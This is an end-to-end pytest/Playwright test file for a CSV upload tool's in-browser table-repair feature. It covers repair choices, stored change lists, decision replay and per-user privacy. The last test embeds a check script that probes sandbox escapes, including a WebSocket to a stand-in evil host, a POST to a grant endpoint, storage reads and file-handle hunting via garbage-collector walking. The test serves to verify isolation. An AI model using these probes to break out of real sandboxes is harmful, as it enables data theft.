"""What a person can choose besides a repair, and what a repair keeps, for whom, and from whom."""

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import oss2
import pytest
from playwright.sync_api import Page, Route

from e2e.axe import violations
from e2e.conftest import ENDED_WORKER, Console, MakeFile, StartDemo, operator_bucket
from e2e.pages.repair import RepairDialog
from e2e.pages.uploader import CHECKED_MS, Row, UploaderPage
from e2e.test_repair import AMOUNTS, DATES, ORDERS, RIGHT, TABLE, choose_table, opened
from ossferry.checks.bundling import make_bundle
from ossferry.cli.demo import Demo
from ossferry_checks.tables import Decisions, clean
from ossferry_checks.tables import Table as DeclaredTable
from support.commands import environment, run
from support.expecting import expect
from support.faults import refuse

pytestmark = pytest.mark.e2e


CHOICES = {"repair": True, "allow_original": True, "keep_changes": True}
ORIGINAL = "Upload the original"
PROXY_SECRET = "8f3b0c64d1a97e25c0d4f6b81a2e97d35b60c41e8f7a2d93"
SILENCE_MS = 60_000  # of a worker, as long as the check of tables may take
END_AT_THE_BEGIN = """silence => {
  const { setTimeout } = window;
  window.setTimeout = (run, ms) => setTimeout.call(window, run, ms === silence ? 500 : ms);
  window.Worker = class extends Worker {
    constructor(...given) {
      super(...given);
      this.addEventListener("message", ({ data }) => data.began && window.ends && this.terminate());
    }
  };
}"""
FEW = b"id,date,sku,amount\n1,13.2.2026,A,2\n"
NO_SATURDAY = b"""
from ossferry_checks import Reject, check


@check("*.csv")
def few(file):
    if "2026-02-14" in file.path.read_text():
        raise Reject("No orders on a Saturday.", line=4)
"""


@pytest.fixture(scope="module")
def demo_of_choices(runtime: str) -> Iterator[Demo]:
    with Demo(checks_built_in={"table": {**TABLE, **CHOICES}}) as demo:
        yield demo


@pytest.fixture
def uploader(
    demo_of_choices: Demo, page: Page, console: Console, browser_name: str, runtime: str
) -> UploaderPage:
    """The page of a demo whose check asks about wrong tables."""
    return opened(demo_of_choices, page, console, browser_name, runtime)


def choose(uploader: UploaderPage, path: Path, state: str = "paused") -> Row:
    """Choose a wrong table, and wait for what the check says about it."""
    return choose_table(uploader, path, state)


def accept(row: Row) -> None:
    row.locator.get_by_role("button", name=ORIGINAL).click()


def stored(demo: Demo, name: str) -> dict[str, bytes]:
    """Return the objects whose keys have a name, by the rest of the key."""
    bucket = operator_bucket(demo)
    keys = [each.key for each in oss2.ObjectIterator(bucket) if f"/{name}" in each.key]
    return {key.partition(f"/{name}")[2]: bucket.get_object(key).read() for key in keys}


@pytest.mark.page_stays
def test_a_question_offers_the_repair_and_the_original(
    demo_of_choices: Demo, uploader: UploaderPage, make_file: MakeFile
) -> None:
    row = choose(uploader, make_file("kept.csv", ORDERS))
    other = choose(uploader, make_file("other.csv", ORDERS))
    row.expect_says("Repair the table in the page, or upload the original.")
    assert violations(uploader.page) == []

    dialog = RepairDialog(uploader, row)
    dialog.open()
    dialog.button(ORIGINAL).click()
    expect(dialog.locator).to_have_count(0)
    row.expect_state("done", timeout_ms=CHECKED_MS)
    accept(other)
    other.expect_state("done")

    assert stored(demo_of_choices, "kept.csv") == {"": ORDERS}
    assert stored(demo_of_choices, "other.csv") == {"": ORDERS}


@pytest.mark.slow
@pytest.mark.page_stays
def test_the_list_of_changes_is_stored_beside_a_repaired_table(
    demo_of_choices: Demo, uploader: UploaderPage, make_file: MakeFile
) -> None:
    row = choose(uploader, make_file("orders.csv", ORDERS))
    dialog = RepairDialog(uploader, row)
    dialog.open()
    assert violations(uploader.page) == []
    dialog.find_problems()
    assert violations(uploader.page) == []
    dialog.fix(DATES, "Convert")
    dialog.fix(AMOUNTS, "Convert")
    dialog.fix("The same value as in an earlier row", "Drop the rows")
    dialog.expect_left("1 row has problems.")
    uploader.page.keyboard.press("F8")
    expect(dialog.locator.get_by_label("Line 5 amount", exact=True)).to_be_focused()
    uploader.page.keyboard.type("7,5")
    dialog.button("Write the corrected file").click()
    dialog.expect_step("Result", 3)
    assert violations(uploader.page) == []
    dialog.button("Back").click()
    dialog.expect_left("No problems are left.")
    dialog.upload()
    expect(dialog.locator).to_have_count(0)
    row.expect_state("done", timeout_ms=CHECKED_MS)
    changes = uploader.row("orders.csv.changes.csv")
    changes.expect_state("done", timeout_ms=CHECKED_MS)

    assert changes.key == f"{row.key}.changes.csv"
    found = stored(demo_of_choices, "orders.csv")
    assert found[""] == RIGHT
    lines = found[".changes.csv"].decode().splitlines()
    assert lines[0] == "row,line,field,before,after,why"
    assert lines[-1] == "4,5,amount,n/a,7.5,edit"
    headers = operator_bucket(demo_of_choices).head_object(changes.key).headers
    assert "x-oss-meta-table-changed" not in headers


@pytest.mark.slow
def test_a_dialog_closes_when_its_file_is_accepted_elsewhere_and_a_reload_asks_again(
    demo_of_choices: Demo, uploader: UploaderPage, make_file: MakeFile
) -> None:
    path = make_file("late.csv", FEW)
    dialog = RepairDialog(uploader, choose(uploader, path))
    dialog.open()
    dialog.find_problems()
    dialog.fix(DATES, "Convert")
    dialog.expect_left("No problems are left.")
    uploader.open()
    uploader.expect_ready()

    row = choose(uploader, path)
    dialog = RepairDialog(uploader, row)
    dialog.open()
    expect(dialog.locator).to_contain_text("Your earlier changes to this file are used again.")
    button = row.locator.locator("[data-does=upload_original]")
    button.evaluate("button => button.click()")
    expect(dialog.locator).to_have_count(0)
    row.expect_state("done", timeout_ms=CHECKED_MS)

    assert stored(demo_of_choices, "late.csv") == {"": FEW}


@pytest.mark.slow
@pytest.mark.only_browser("chromium")  # only its downloads can be read
def test_the_decisions_are_downloaded_and_replayed(
    uploader: UploaderPage, make_file: MakeFile, tmp_path: Path
) -> None:
    path = make_file("replay.csv", FEW)
    dialog = RepairDialog(uploader, choose(uploader, path))
    dialog.open()
    dialog.find_problems()
    dialog.fix(DATES, "Convert")
    dialog.button("Write the corrected file").click()
    dialog.expect_step("Result", 3)

    with uploader.page.expect_download() as download:
        dialog.locator.get_by_role("link", name="Download the decisions").click()
    assert download.value.suggested_filename == "replay.csv.decisions.json"
    decisions = Decisions.from_json(download.value.path().read_text("utf-8"))
    clean(path, DeclaredTable.of(**TABLE), decisions, into=tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (b"id,date,sku,amount\r\n1,2026-02-13,A,2\r\n")


@pytest.mark.slow
def test_a_repaired_table_that_is_refused_again_is_repaired_again_and_proven(
    start_demo: StartDemo, console: Console, make_file: MakeFile, browser_name: str
) -> None:
    console.expected += ["403", *([ENDED_WORKER] if browser_name == "firefox" else [])]
    checks = make_file("checks.py", NO_SATURDAY)
    built_in = {"table": {**TABLE, "repair": True}}
    demo, uploader = start_demo(checks=checks, checks_built_in=built_in)
    uploader.start()
    dialog = RepairDialog(uploader, choose(uploader, make_file("orders.csv", ORDERS), "failed"))
    dialog.open()
    dialog.find_problems()
    dialog.fix(DATES, "Convert")
    dialog.fix(AMOUNTS, "Convert")
    dialog.fix("Not a number", "Empty the cells")
    dialog.expect_left("1 row has problems.")
    dialog.fix("The same value as in an earlier row", "Drop the rows")
    dialog.upload()
    dialog.row.expect_state("failed", timeout_ms=CHECKED_MS)
    dialog.row.expect_says("Line 4: No orders on a Saturday.")

    dialog.open()
    dialog.button("Start again").click()
    dialog.find_problems()
    dialog.fix(DATES, "Convert")
    dialog.fix(AMOUNTS, "Convert")
    dialog.expect_left("2 rows have problems.")
    dialog.fix("Not a number", "Drop the rows")
    dialog.fix("The same value as in an earlier row", "Drop the rows")
    refuse(demo, "orders.csv", "AccessDenied")
    dialog.upload()
    expect(dialog.row.retry_button).to_be_visible(timeout=CHECKED_MS)
    demo.oss.faults.clear()
    dialog.row.retry_button.click()
    dialog.row.expect_state("done", timeout_ms=CHECKED_MS)

    uploader.page.locator("#more").get_by_role("button", name="My uploads").click()
    claimed = uploader.dialog("my-uploads").get_by_test_id("checks")
    claimed.locator("summary").click()
    counts = "Changed cells: 4; dropped rows: 2; rows before: 4, after: 2."
    expect(claimed.get_by_role("listitem").first).to_contain_text(counts)
    given = {"OSSFERRY_CHECKS": str(checks), "OSSFERRY_CHECKS_BUILT_IN": json.dumps(built_in)}
    with ThreadPoolExecutor(1) as thread:  # Playwright has the event loop of this one
        proof = thread.submit(run, "check", dialog.row.key, environment=environment(demo) | given)
    assert (proof.result().code, [row[:2] for row in proof.result().rows[1:]]) == (
        0,
        [["table", "passed"], ["few", "passed"]],
    )


@pytest.mark.slow
@pytest.mark.parametrize("runtime", ["micropython"], indirect=True)
def test_a_worker_that_ends_during_a_command_costs_no_decision(
    uploader: UploaderPage, make_file: MakeFile
) -> None:
    uploader.page.evaluate(END_AT_THE_BEGIN, SILENCE_MS)
    dialog = RepairDialog(uploader, choose(uploader, make_file("silent.csv", ORDERS)))
    dialog.open()
    dialog.find_problems()
    dialog.fix(DATES, "Convert")
    expect(dialog.group(DATES)).to_have_count(0)

    uploader.page.evaluate("() => { window.ends = true; }")
    dialog.fix(AMOUNTS, "Convert")
    expect(dialog.locator).to_contain_text("The repair has stopped.")
    uploader.page.evaluate("() => { window.ends = false; }")
    dialog.button("Retry").click()
    dialog.expect_step("Columns", 1)
    dialog.find_problems()

    expect(dialog.group(AMOUNTS)).to_be_visible()
    expect(dialog.group(DATES)).to_have_count(0)


@pytest.mark.slow
@pytest.mark.only_browser("chromium")  # its requests can get headers
@pytest.mark.parametrize("runtime", ["micropython"], indirect=True)
def test_what_one_person_has_decided_is_not_shown_to_another(
    start_demo: StartDemo, page: Page, make_file: MakeFile
) -> None:
    demo, uploader = start_demo(
        auth="proxy", proxy_secret=PROXY_SECRET, checks_built_in={"table": {**TABLE, **CHOICES}}
    )
    person = "alice"
    loaded: list[str] = []

    def sign(route: Route) -> None:
        who = {"x-forwarded-user": person, "x-proxy-secret": PROXY_SECRET}
        route.continue_(headers={**route.request.headers, **who})

    page.route(f"{demo.url}/api/**", sign)
    page.on("request", lambda request: loaded.append(request.url.rpartition("/")[2]))
    path = make_file("private.csv", FEW.replace(b"sku", b"Thing"))
    seen = {}
    for name in ("alice", "bob", "alice"):
        person = name
        uploader.open()
        uploader.expect_ready()
        dialog = RepairDialog(uploader, choose(uploader, path))
        assert "repair.py" not in loaded, "it is loaded only when it is opened"
        dialog.open()
        seen[name] = dialog.locator.get_by_text("Your earlier changes").count()
        assert dialog.field_of("Thing").input_value() == ("sku" if seen[name] else "")
        dialog.field_of("Thing").select_option("sku")
        dialog.find_problems()
        if not seen[name]:
            dialog.fix(DATES, "Convert")
        dialog.expect_left("No problems are left.")
        loaded.clear()

    assert seen == {"alice": 1, "bob": 0}
    kept = page.evaluate("() => Object.keys(localStorage).filter(key => key.includes('private'))")
    assert len(kept) == 2


MODEL = '''
import gc
import importlib
import sys

import js
from pydantic import BaseModel, field_validator
from pyodide.code import run_js
from pyodide.ffi import JsProxy


def handles():
    """Return what Python can find that reads a file or has its handle."""
    frame, found = sys._getframe(), []
    while frame:
        found += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    found += [each for one in found for each in getattr(one, "__closure__", None) or ()]
    found += [each.cell_contents for each in found if type(each).__name__ == "cell"]
    found += gc.get_objects()
    names = ("getFile", "getSize", "truncate", "createWritable", "getFileHandle")
    return [
        each for each in found if isinstance(each, JsProxy) and any(hasattr(each, n) for n in names)
    ]


def found(value):
    if value is None or value is js.undefined or value == []:
        raise LookupError("nothing")


ATTEMPTS = {
    "canary": lambda: js.crypto.randomUUID(),
    "fetch": lambda: js.fetch("/api/grant", method="POST"),
    "request": lambda: js.XMLHttpRequest.new(),
    "socket": lambda: js.WebSocket.new("wss://evil.example"),
    "prototype": lambda: js.WorkerGlobalScope.prototype.fetch,
    "worker": lambda: js.Worker.new(js.location.href),
    "storage": lambda: js.indexedDB.open("ossferry"),
    "local": lambda: js.localStorage.getItem("ossferry repair"),
    "caches": lambda: js.caches.keys(),
    "locks": lambda: js.navigator.locks.query(),
    "channel": lambda: js.BroadcastChannel.new("ossferry"),
    "disk": lambda: js.navigator.storage.getDirectory(),
    "handle": handles,
    "output": lambda: run_js("output"),
    "function": lambda: js.Function.new("return 1")(),
    "message": lambda: js.postMessage,
}


def reached(attempt):
    try:
        found(attempt())
    except BaseException:
        return False
    return True


class Sale(BaseModel):
    sku: str

    @field_validator("sku")
    @classmethod
    def says_what_it_reaches(cls, value):
        names = [name for name, attempt in ATTEMPTS.items() if reached(attempt)]
        raise ValueError(f"reached {' '.join(names)}.")
'''


@pytest.mark.slow
@pytest.mark.parametrize("runtime", ["micropython"], indirect=True)
def test_t57_a_model_in_a_repair_reaches_neither_the_network_nor_the_storage(
    start_demo: StartDemo, console: Console, make_file: MakeFile, tmp_path: Path, browser_name: str
) -> None:
    console.expected += ["Content Security Policy", "eval"]
    if browser_name == "firefox":
        console.expected.append(ENDED_WORKER)
    packages = ("pydantic>=2.12",)
    make_bundle(packages, tmp_path / "wheels")
    _, uploader = start_demo(
        checks=make_file("checks.py", MODEL.encode()),
        checks_packages=packages,
        checks_dir=tmp_path / "wheels",
        checks_built_in={"table": {"model": "Sale", "repair": True}},
    )
    uploader.open()
    uploader.expect_ready()

    row = choose(uploader, make_file("sales.csv", b"sku\na\n"), "failed")
    row.expect_says("reached canary.")
    dialog = RepairDialog(uploader, row)
    dialog.open()
    dialog.find_problems()
    expect(dialog.groups).to_contain_text("reached canary.")
